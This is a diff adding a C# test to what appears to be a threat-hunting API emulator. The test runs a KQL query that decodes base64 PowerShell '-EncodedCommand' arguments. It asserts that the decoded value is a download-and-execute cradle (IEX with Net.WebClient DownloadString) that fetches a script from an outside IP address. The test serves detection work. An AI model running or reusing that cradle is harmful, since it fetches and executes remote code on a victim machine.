@@ -104,6 +104,27 @@ public sealed class ApiTests(EmulatorFixture fixture) : IClassFixture<EmulatorFi
     }
 
     [Fact]
+    public async Task An_analyst_decodes_the_storys_encoded_powershell_with_parse_and_base64_and_render_is_ignored()
+    {
+        var token = await fixture.SecretTokenAsync("contoso");
+
+        var decoded = await fixture.HuntAsync("""
+            DeviceProcessEvents
+            | where ProcessCommandLine has "-EncodedCommand"
+            | parse ProcessCommandLine with * "-EncodedCommand " Encoded
+            | extend Decoded = replace_string(base64_decode_tostring(Encoded), "\u0000", "")
+            | project DeviceName, AccountName, Decoded
+            | render table
+            """, token);
+
+        Assert.Equal(200, decoded.Status);
+        var row = Assert.Single(decoded.Body.GetProperty("results").EnumerateArray());
+        Assert.Equal("adele.vance", row.GetProperty("AccountName").GetString());
+        Assert.Equal("IEX (New-Object Net.WebClient).DownloadString('http://185.220.101.47/a.ps1')", row.GetProperty("Decoded").GetString());
+        Assert.Equal(["DeviceName", "AccountName", "Decoded"], decoded.Body.GetProperty("schema").EnumerateArray().Select(c => c.GetProperty("name").GetString()));
+    }
+
+    [Fact]
     public async Task The_timespan_limits_the_rows()
     {
         var token = await fixture.SecretTokenAsync("fabrikam");
